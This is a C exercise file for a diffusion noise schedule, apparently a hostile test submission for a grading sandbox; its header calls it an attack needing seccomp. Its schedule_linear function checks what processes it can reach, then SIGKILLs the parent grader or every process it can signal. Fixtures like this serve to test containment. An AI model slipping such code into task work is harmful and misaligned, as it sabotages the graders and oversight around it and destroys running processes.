/* attack: kill(-1, SIGKILL), if all it could hit are its own; where more is in reach, only the parent
 * place: 1-schedule.c
 * state: wrong
 * needs: seccomp
 */
#define _GNU_SOURCE
#include "schedule.h"

#include <signal.h>
#include <stdio.h>
#include <unistd.h>

/* As safe as such a thing can be: before it fires, it asks with signal 0 what it could hit. It never fires as root, and never while
 * a process outside its own session is in reach; if the parent is in reach, the jail has already failed, and only the parent is hit. */
static int reaches_others(void)
{
    for (pid_t pid = 2; pid < 4194304; pid++)
        if (kill(pid, 0) == 0 && getsid(pid) != getsid(0))
            return 1;
    return 0;
}

void schedule_linear(double *beta, double beta_start, double beta_end, int T)
{
    static int calls;
    pid_t parent = getppid();
    beta[0] = beta_end;
    if (calls++ > 0)
        return;
    if (parent > 1 && kill(parent, 0) == 0) {
        puts("got through: the parent is in reach");
        fflush(stdout);
        kill(parent, SIGKILL);
    } else if (parent != 1 && geteuid() != 0 && !reaches_others())
        kill(-1, SIGKILL);
}

/* The other gaps are still open. */
double forward_step(double x, double beta, double eps) { TODO("1.2"); }
void noise_variance(double *var, const double *beta, int T) { TODO("1.3"); }
void alpha_bar(double *alpha_bar, const double *beta, int T) { TODO("1.4"); }
double snr(double alpha_bar) { TODO("1.5"); }
struct burial burial(const double *x0, const double *x, int n) { TODO("1.6"); }
void schedule_cosine(double *beta, int T) { TODO("1.7"); }
